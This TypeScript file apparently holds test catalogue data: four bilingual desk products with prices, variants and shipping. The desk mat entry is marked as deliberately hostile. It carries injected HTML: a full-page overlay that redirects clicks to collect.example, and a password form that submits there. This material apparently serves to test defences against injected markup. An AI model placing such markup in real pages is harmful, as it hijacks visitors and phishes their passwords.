import { colours, defineProduct, html, pick, sizes } from '../define-product';
import type { CatalogueProduct } from '../product';
import { CATEGORIES, free, premium, standard, STORES } from '../supply';

const laptopStand = defineProduct({
  no: 844310572, store: STORES.desk, category: CATEGORIES.desk,
  subject: {
    en: 'Foldable Aluminium Laptop Stand, Height Adjustable Ergonomic Notebook Riser for 10 to 16 Inch, Ventilated, Non Slip',
    es: 'Soporte plegable de aluminio para portátil, regulable en altura, ergonómico, de 10 a 16 pulgadas, ventilado y antideslizante',
  },
  html: {
    en: html(['Lifts the screen to eye level and your shoulders drop by themselves. Two stiff hinges hold any height from 6 to 25 cm and do not bounce while you type.',
      'Cut from 4 mm aluminium, open in the middle so the fan can breathe. Folded it is as flat as a magazine.'],
    'Details', ['Carries 10 kg, for laptops from 10 to 16 inches', '26 x 22 cm, 4.5 cm folded, 1.1 kg', 'Silicone pads where metal would meet metal', 'No assembly, no tools'], 'laptop-stand-desk', 'A laptop on the stand'),
    es: html(['Sube la pantalla a la altura de los ojos y los hombros bajan solos. Las dos bisagras, bien firmes, aguantan cualquier altura entre 6 y 25 cm sin rebotar al teclear.',
      'Está cortado en aluminio de 4 mm y abierto por el centro para que el ventilador respire. Plegado abulta lo que una revista.'],
    'Detalles', ['Aguanta 10 kg, para portátiles de 10 a 16 pulgadas', '26 x 22 cm, 4,5 cm plegado, 1,1 kg', 'Almohadillas de silicona para no rozar metal con metal', 'Sin montaje ni herramientas'], 'laptop-stand-desk', 'Un portátil sobre el soporte'),
  },
  pictures: ['laptop-stand-silver', 'laptop-stand-desk', 'laptop-stand-grey', 'laptop-stand-rose'],
  choices: [colours([pick(350853, 'Silver', 'Plata', 'laptop-stand-silver'), pick(691, 'Space Grey', 'Gris espacial', 'laptop-stand-grey'), pick(1052, 'Rose', 'Rosa', 'laptop-stand-rose')])],
  rows: [[[0], 1549, 2890, 430], [[1], 1549, 2890, 388], [[2], 1590, 2890, 51]],
  freight: [free(7, 12), premium(590)],
  facts: [['Material', 'Material', 'Aluminium alloy, silicone', 'Aleación de aluminio, silicona'], ['Load', 'Carga', '10 kg', '10 kg']],
  record: [18720, '4.8', 5240], weight: 1180, pack: [28, 24, 6], priceByCountry: { US: 10800, CA: 10500 },
});

const organiser = defineProduct({
  no: 844311083, store: STORES.desk, category: CATEGORIES.desk,
  subject: {
    en: 'Bamboo Desk Organiser with Drawer, Pen Holder and Letter Tray, Natural Wood Desktop Storage Box for Office and Home',
    es: 'Organizador de escritorio de bambú con cajón, lapicero y bandeja para cartas, caja de sobremesa para oficina y casa',
  },
  html: {
    en: html(['A tall bay for pens, a slot for letters, a ledge for the phone and a drawer for everything you would rather not see. The desk looks done before you have started.',
      'Moso bamboo, glued and sanded, finished with plant oil.'],
    'Details', ['26 x 14 x 14 cm', 'Five compartments and one drawer with brass knob', 'Felt feet', 'Arrives assembled'], 'desk-organiser-desk', 'The organiser on a desk, in use'),
    es: html(['Un hueco alto para los bolígrafos, una ranura para las cartas, un apoyo para el móvil y un cajón para lo que prefieres no ver. La mesa parece ordenada antes de empezar.',
      'Bambú moso encolado y lijado, con acabado de aceite vegetal.'],
    'Detalles', ['26 x 14 x 14 cm', 'Cinco compartimentos y un cajón con tirador de latón', 'Pies de fieltro', 'Llega montado'], 'desk-organiser-desk', 'El organizador en la mesa, en uso'),
  },
  pictures: ['desk-organiser-bamboo', 'desk-organiser-desk'],
  choices: [sizes([pick(361386, 'Standard', 'Estándar', 'desk-organiser-bamboo'), pick(361385, 'Wide', 'Ancho', 'desk-organiser-desk')])],
  rows: [[[0], 1320, 2350, 96], [[1], 1680, 2790, 44]],
  freight: [standard(320, 290, 390), free(15, 25)],
  facts: [['Material', 'Material', 'Moso bamboo', 'Bambú moso'], ['Compartments', 'Compartimentos', '5', '5']],
  record: [2214, '4.7', 590], weight: 940, pack: [28, 16, 16], notTo: ['AU', 'NZ', 'CL'],
});

const cableClips = defineProduct({
  no: 844311466, store: STORES.desk, category: CATEGORIES.desk,
  subject: {
    en: 'Silicone Cable Clips, Pack of 6, Self Adhesive Cord Holder for Desk and Nightstand, USB Charging Cable Organiser',
    es: 'Clips de silicona para cables, paquete de 6, adhesivos, para escritorio y mesilla, organizador de cables de carga USB',
  },
  html: {
    en: html(['The cable stays where you left it. Press one to the edge of the desk, push the plug through the slot, and it no longer slides behind the drawers.',
      'Removable adhesive: warm it with a hair dryer and it comes off without a trace.'],
    'Details', ['6 clips, 3 cm, for cables from 3 to 6 mm', 'Holds on wood, glass, metal and painted walls', 'Soft silicone that does not mark the cable'], 'cable-clips-desk', 'Clips on a wooden desk'),
    es: html(['El cable se queda donde lo dejaste. Pega uno al borde de la mesa, mete el enchufe por la ranura y se acabó pescarlo detrás de la cajonera.',
      'Adhesivo removible: un poco de calor con el secador y sale sin dejar marca.'],
    'Detalles', ['6 clips de 3 cm, para cables de 3 a 6 mm', 'Agarran en madera, vidrio, metal y pared pintada', 'Silicona blanda que no marca el cable'], 'cable-clips-desk', 'Los clips en una mesa de madera'),
  },
  pictures: ['cable-clips-black', 'cable-clips-desk', 'cable-clips-white', 'cable-clips-sage'],
  choices: [colours([pick(193, 'Black', 'Negro', 'cable-clips-black'), pick(29, 'White', 'Blanco', 'cable-clips-white'), pick(175, 'Sage', 'Salvia', 'cable-clips-sage')])],
  rows: [[[0], 210, 450, 900], [[1], 210, 450, 870], [[2], 230, 450, 316]],
  freight: [free(9, 16), standard(90, 80, 150)],
  facts: [['Material', 'Material', 'Silicone', 'Silicona'], ['Pieces', 'Piezas', '6', '6']],
  record: [30115, '4.6', 7980], weight: 60, pack: [12, 10, 3],
});

const deskMat = defineProduct({
  no: 844311970, store: STORES.desk, category: CATEGORIES.desk,
  subject: {
    en: 'Wool Felt Desk Mat, Large Mouse Pad and Keyboard Mat with Cork Backing and Leather Tab, 60 x 30 or 90 x 40 cm',
    es: 'Vade de fieltro de lana, alfombrilla grande para ratón y teclado con base de corcho y etiqueta de cuero, 60 x 30 o 90 x 40 cm',
  },
  // Hostile on purpose: inline styles that cover the page, and a form that asks for a password.
  html: {
    en: html(['Quiet under the keyboard, warm under the wrists. Dense wool felt on a thin layer of cork lies flat from the first minute and stays where it is.'],
    'Details', ['4 mm wool felt, 1 mm natural cork', 'Two sizes, three colours', 'Works with any mouse', 'Brush clean or spot wash'], 'desk-mat-detail', 'Felt and leather tab from close by') + '<div style="position:fixed;inset:0;background:#fff;z-index:99999" onclick="location=\'https://collect.example\'"></div>',
    es: html(['Silencioso bajo el teclado, cálido bajo las muñecas. El fieltro de lana, denso y con una capa fina de corcho, queda plano desde el primer minuto y no se mueve.'],
    'Detalles', ['Fieltro de lana de 4 mm, corcho natural de 1 mm', 'Dos tamaños, tres colores', 'Sirve con cualquier ratón', 'Se cepilla o se limpia con un paño húmedo'], 'desk-mat-detail', 'El fieltro y la etiqueta de cuero de cerca') + '<form action="https://collect.example"><input name="password" placeholder="Contraseña"></form>',
  },
  pictures: ['desk-mat-grey', 'desk-mat-detail', 'desk-mat-green', 'desk-mat-camel'],
  choices: [
    colours([pick(691, 'Grey', 'Gris', 'desk-mat-grey'), pick(200002984, 'Pine', 'Pino', 'desk-mat-green'), pick(365458, 'Camel', 'Camel', 'desk-mat-camel')]),
    sizes([pick(361386, '60 x 30 cm', '60 x 30 cm'), pick(361385, '90 x 40 cm', '90 x 40 cm')]),
  ],
  rows: [[[0, 0], 640, 1190, 260], [[0, 1], 990, 1790, 148], [[1, 0], 640, 1190, 133], [[1, 1], 990, 1790, 60], [[2, 0], 640, 1190, 97], [[2, 1], 990, 1790, 3]],
  freight: [free(8, 15), standard(180, 150, 240)],
  facts: [['Material', 'Material', 'Wool felt, cork', 'Fieltro de lana, corcho'], ['Thickness', 'Grosor', '5 mm', '5 mm']],
  record: [7345, '4.8', 1902], weight: 420, pack: [42, 9, 9], special: 'hostile',
});

export const DESK_GOODS: readonly CatalogueProduct[] = [laptopStand, organiser, cableClips, deskMat];
